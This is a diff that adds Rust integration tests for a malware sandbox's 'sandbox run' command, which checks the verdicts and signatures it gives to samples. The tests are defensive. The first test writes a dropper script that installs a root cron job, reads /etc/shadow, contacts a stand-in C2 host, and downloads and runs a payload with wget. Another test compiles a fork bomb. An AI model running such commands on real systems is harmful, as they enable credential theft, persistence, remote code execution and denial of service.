@@ -1,0 +1,267 @@
+//! `sekisho sandbox run` end to end: programs and scripts written or compiled at test time are
+//! detonated by the real binary (bubblewrap, setpriv, prlimit, strace) and get the verdicts
+//! and signatures their behaviour earns; runaway samples end at their bounds, nothing is
+//! created outside scratch and no process outlives the task.
+
+#![allow(clippy::unwrap_used)]
+
+mod common;
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use common::{bin, TempDir};
+
+fn rules() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/sandbox")
+}
+
+/// One detonation at a time: a test checks that no process of its sample is left, which
+/// another test's running sample would confuse.
+static ONE_AT_A_TIME: std::sync::Mutex<()> = std::sync::Mutex::new(());
+
+/// Runs `sekisho sandbox run` on `file`; returns the exit code and the report, and whether
+/// a process of the sample was left after it.
+fn detonate(dir: &TempDir, file: &Path, timeout: u64) -> (i32, serde_json::Value) {
+    let (code, report, _) = detonate_checked(dir, file, timeout);
+    (code, report)
+}
+
+fn detonate_checked(dir: &TempDir, file: &Path, timeout: u64) -> (i32, serde_json::Value, bool) {
+    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
+    let out = Command::new(bin())
+        .args(["sandbox", "run", "--rules"])
+        .arg(rules())
+        .arg("--work-dir")
+        .arg(dir.path().join("work"))
+        .args(["--timeout", &timeout.to_string()])
+        .arg(file)
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    let report = serde_json::from_str(&text).unwrap_or_else(|e| {
+        panic!(
+            "{e}: {text}\nstderr: {}",
+            String::from_utf8_lossy(&out.stderr)
+        )
+    });
+    (
+        out.status.code().unwrap_or(-1),
+        report,
+        no_sample_processes(),
+    )
+}
+
+fn write(dir: &TempDir, name: &str, text: &str) -> PathBuf {
+    let p = dir.path().join(name);
+    std::fs::write(&p, text).unwrap();
+    p
+}
+
+fn hits(report: &serde_json::Value) -> Vec<String> {
+    report["signatures"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["id"].as_str().unwrap().to_string())
+        .collect()
+}
+
+/// No process runs the sample any more (the pid namespace ended with the task).
+fn no_sample_processes() -> bool {
+    std::fs::read_dir("/proc").unwrap().flatten().all(|e| {
+        std::fs::read(e.path().join("cmdline"))
+            .map(|c| !String::from_utf8_lossy(&c).contains("/tmp/scratch/sample"))
+            .unwrap_or(true)
+    })
+}
+
+#[test]
+fn a_script_that_persists_steals_and_downloads_is_malicious() {
+    let dir = TempDir::new("sandbox-mal");
+    let marker = format!("/tmp/sekisho-sandbox-escape-{}", std::process::id());
+    let script = format!(
+        "#!/bin/sh\n\
+         echo '* * * * * root sh' > /etc/cron.d/sekisho-test\n\
+         cat /etc/shadow\n\
+         getent hosts c2.evil.example\n\
+         python3 -c 'import socket; s=socket.socket(); s.settimeout(1); s.connect_ex((\"198.51.100.7\", 4444))'\n\
+         wget -q -O payload http://198.51.100.7/p || printf '#!/bin/sh\\necho pwned\\n' > payload\n\
+         chmod +x payload\n\
+         ./payload\n\
+         ln -s /etc escape && echo x > escape/sekisho-test\n\
+         echo x > {marker}\n"
+    );
+    let file = write(&dir, "dropper.sh", &script);
+    let (code, r) = detonate(&dir, &file, 20);
+    assert_eq!(code, 1, "{r:#}");
+    assert_eq!(r["verdict"], "malicious", "{r:#}");
+    assert_eq!(r["score"], 10);
+    assert_eq!(r["file_type"], "sh");
+    let ids = hits(&r);
+    for want in [
+        "persistence.cron",
+        "credentials.system_passwords",
+        "network.outbound_connect",
+        "network.dns_lookup",
+        "execution.downloader_spawned",
+        "execution.dropped_file_run",
+        "filesystem.write_outside_scratch",
+    ] {
+        assert!(ids.iter().any(|i| i == want), "{want} missing: {ids:?}");
+    }
+    assert_eq!(r["dns"][0], "c2.evil.example");
+    let net: Vec<&str> = r["network"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["addr"].as_str().unwrap())
+        .collect();
+    assert!(net.contains(&"198.51.100.7:4444"), "{net:?}");
+    let dropped: Vec<&str> = r["files_dropped"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["path"].as_str().unwrap())
+        .collect();
+    assert!(dropped.contains(&"/tmp/scratch/payload"), "{dropped:?}");
+    assert_eq!(r["files_dropped"][0]["sha256"].as_str().unwrap().len(), 64);
+    let programs: Vec<String> = r["processes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|p| p["exec"].as_array().unwrap().clone())
+        .map(|e| e.as_str().unwrap().to_string())
+        .collect();
+    assert!(
+        programs
+            .iter()
+            .any(|p| p.starts_with("/usr/bin/cat /etc/shadow")),
+        "{programs:?}"
+    );
+    assert!(!Path::new("/etc/cron.d/sekisho-test").exists());
+    assert!(!Path::new("/etc/sekisho-test").exists());
+    assert!(
+        !Path::new(&marker).exists(),
+        "the sandbox's /tmp is its own"
+    );
+    assert!(
+        std::fs::read_dir(dir.path().join("work"))
+            .unwrap()
+            .next()
+            .is_none(),
+        "the task folder is removed"
+    );
+}
+
+#[test]
+fn a_program_that_forks_in_a_loop_is_stopped_and_malicious() {
+    let dir = TempDir::new("sandbox-fork");
+    let src = write(
+        &dir,
+        "forker.c",
+        "#include <unistd.h>\nint main(void){for(int i=0;i<100000;i++){if(fork()==0){sleep(30);_exit(0);}}return 0;}\n",
+    );
+    let exe = dir.path().join("forker");
+    let cc = Command::new("cc")
+        .arg(&src)
+        .arg("-o")
+        .arg(&exe)
+        .status()
+        .unwrap();
+    assert!(cc.success());
+    let started = std::time::Instant::now();
+    let (code, r, none_left) = detonate_checked(&dir, &exe, 10);
+    assert!(started.elapsed() < std::time::Duration::from_secs(20));
+    assert_eq!(code, 1, "{r:#}");
+    assert_eq!(r["file_type"], "elf");
+    assert_eq!(r["verdict"], "malicious", "{r:#}");
+    assert!(
+        hits(&r).contains(&"resources.fork_bomb".to_string()),
+        "{:?}",
+        hits(&r)
+    );
+    assert!(none_left, "a process of the sample outlived its task");
+}
+
+#[test]
+fn a_build_like_tool_writing_in_scratch_is_clean() {
+    let dir = TempDir::new("sandbox-benign");
+    let script = "#!/bin/bash\nset -e\nmkdir -p build/obj\n\
+                  for i in $(seq 1 40); do printf 'int f%d(void){return %d;}\\n' $i $i > build/obj/f$i.c; done\n\
+                  cat build/obj/*.c > build/all.c\nsed -i 's/return/  return/' build/all.c\n\
+                  wc -l build/all.c\nls build/obj | sort > build/manifest.txt\n";
+    let file = write(&dir, "build.sh", script);
+    let (code, r) = detonate(&dir, &file, 20);
+    assert_eq!(code, 0, "{r:#}");
+    assert_eq!(r["verdict"], "clean", "{r:#}");
+    assert!(r["score"].as_u64().unwrap() < 4);
+    assert_eq!(r["file_type"], "bash");
+    assert!(r["files_dropped"].as_array().unwrap().len() >= 42, "{r:#}");
+    assert!(r["output"].as_str().unwrap().contains("40 build/all.c"));
+}
+
+#[test]
+fn runaway_samples_end_at_the_deadline_with_bounded_output() {
+    let dir = TempDir::new("sandbox-runaway");
+    let file = write(
+        &dir,
+        "spin.py",
+        "import time, sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n    time.sleep(0.001)\n",
+    );
+    let started = std::time::Instant::now();
+    let (_, r, none_left) = detonate_checked(&dir, &file, 3);
+    assert!(started.elapsed() < std::time::Duration::from_secs(10));
+    assert_eq!(r["file_type"], "python");
+    assert_eq!(r["timed_out"], true, "{r:#}");
+    assert!(hits(&r).contains(&"evasion.ran_until_deadline".to_string()));
+    assert!(r["output"].as_str().unwrap().len() <= 32 * 1024);
+    assert!(none_left, "a process of the sample outlived its task");
+}
+
+#[test]
+fn other_types_are_reported_not_detonated() {
+    let dir = TempDir::new("sandbox-static");
+    let file = write(&dir, "doc.pdf", "%PDF-1.7\n1 0 obj\n<<>>\nendobj\n");
+    let (code, r) = detonate(&dir, &file, 5);
+    assert_eq!(code, 0);
+    assert_eq!(r["verdict"], "not_detonated");
+    assert_eq!(r["file_type"], "pdf");
+    assert!(r["not_detonated"].as_str().unwrap().contains("static"));
+}
+
+#[test]
+fn broken_behaviour_rules_name_file_and_line() {
+    let dir = TempDir::new("sandbox-rules");
+    let rules = write(
+        &dir,
+        "bad.toml",
+        "[[signature]]\nid = \"ok\"\ndescription = \"d\"\nweight = 2\nevent = \"open\"\n\n[[signature]]\nid = \"bad\"\ndescription = \"d\"\nweight = 2\nevent = \"open\"\npath = \"([\"\n",
+    );
+    let sample = write(&dir, "s.sh", "#!/bin/sh\ntrue\n");
+    let out = Command::new(bin())
+        .args(["sandbox", "run", "--rules"])
+        .arg(&rules)
+        .arg(&sample)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("bad.toml:8: signature bad: path"), "{err}");
+    // `rules check` finds rules/sandbox beside the config.
+    std::fs::create_dir_all(dir.path().join("rules/sandbox")).unwrap();
+    std::fs::copy(&rules, dir.path().join("rules/sandbox/bad.toml")).unwrap();
+    let config = write(
+        &dir,
+        "gw.toml",
+        "[[listener]]\nname = \"p\"\nkind = \"forward\"\naddr = \"127.0.0.1:0\"\n",
+    );
+    let out = Command::new(bin())
+        .args(["rules", "check", "--config"])
+        .arg(&config)
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(1), "{text}");
+    assert!(text.contains("bad.toml:8: signature bad: path"), "{text}");
+}
